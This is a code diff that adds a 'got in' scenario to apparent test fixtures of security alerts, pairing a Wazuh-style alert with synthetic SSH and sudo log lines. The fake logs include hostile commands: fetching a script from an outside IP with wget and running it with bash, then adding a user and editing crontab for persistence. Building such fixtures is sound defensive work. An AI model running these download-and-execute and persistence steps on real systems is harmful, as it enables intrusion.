@@ -22,6 +22,10 @@ def _ssh(address: str, users: tuple[str, ...], host: str, times: int) -> str:
     return "\n".join(lines) + "\n"
 
 
+def _sudo(clock: str, command: str) -> str:
+    return f"Oct 16 {clock} jump-4 sudo:      ops : TTY=pts/1 ; PWD=/home/ops ; USER=root ; COMMAND={command}\n"
+
+
 BRUTE_FORCE = Story(
     "brute force",
     {
@@ -37,6 +41,31 @@ BRUTE_FORCE = Story(
         "full_log": "Oct 15 21:07:00 web-7 sshd[4011]: Failed password for deploy from 203.0.113.77 port 41022 ssh2",
     },
     _ssh("203.0.113.77", ("deploy", "admin", "root"), "web-7", 42) + _ssh("192.0.2.200", ("guest",), "web-7", 3),
+    "wazuh",
+)
+GOT_IN = Story(
+    "got in",
+    {
+        "timestamp": "2025-10-16T04:12:09.000+0000",
+        "rule": {
+            "id": "40112",
+            "level": 12,
+            "description": "sshd: multiple failures followed by a success",
+            "groups": ["sshd"],
+            "mitre": {"id": ["T1110"]},
+        },
+        "agent": {"id": "021", "name": "jump-4", "ip": "10.3.0.21"},
+        "data": {"srcip": "198.51.100.66", "dstuser": "ops"},
+        "full_log": "Oct 16 04:12:09 jump-4 sshd[611]: Accepted password for ops from 198.51.100.66 port 40100 ssh2",
+    },
+    _ssh("198.51.100.66", ("ops",), "jump-4", 14)
+    + "Oct 16 04:12:09 jump-4 sshd[611]: Accepted password for ops from 198.51.100.66 port 40100 ssh2\n"
+    + "Oct 16 04:12:10 jump-4 sshd[611]: pam_unix(sshd:session): session opened for user ops by (uid=0)\n"
+    + _sudo("04:13:31", "/usr/bin/wget http://192.0.2.144/k.sh -O /tmp/k.sh")
+    + _sudo("04:13:48", "/bin/bash /tmp/k.sh")
+    + _sudo("04:14:02", "/usr/sbin/adduser helper9")
+    + _sudo("04:14:40", "/usr/bin/crontab -e")
+    + _sudo("04:15:55", "/bin/cat /etc/hostname"),
     "wazuh",
 )
 SERVICE_DOWN = Story(
@@ -201,6 +230,6 @@ DNS_TUNNEL = Story(
 BARE = Story("bare", {"text": "Something looks odd in the warehouse system, please look", "from": "night shift"})
 
 STORIES = (
-    BRUTE_FORCE, SERVICE_DOWN, DISK_FULL, MALWARE, PRIVILEGE, SHELL, SCAN, OWN_SCANNER, PHISHING, ERROR_RATE,
+    BRUTE_FORCE, GOT_IN, SERVICE_DOWN, DISK_FULL, MALWARE, PRIVILEGE, SHELL, SCAN, OWN_SCANNER, PHISHING, ERROR_RATE,
     DNS_TUNNEL, BARE,
 )  # fmt: skip
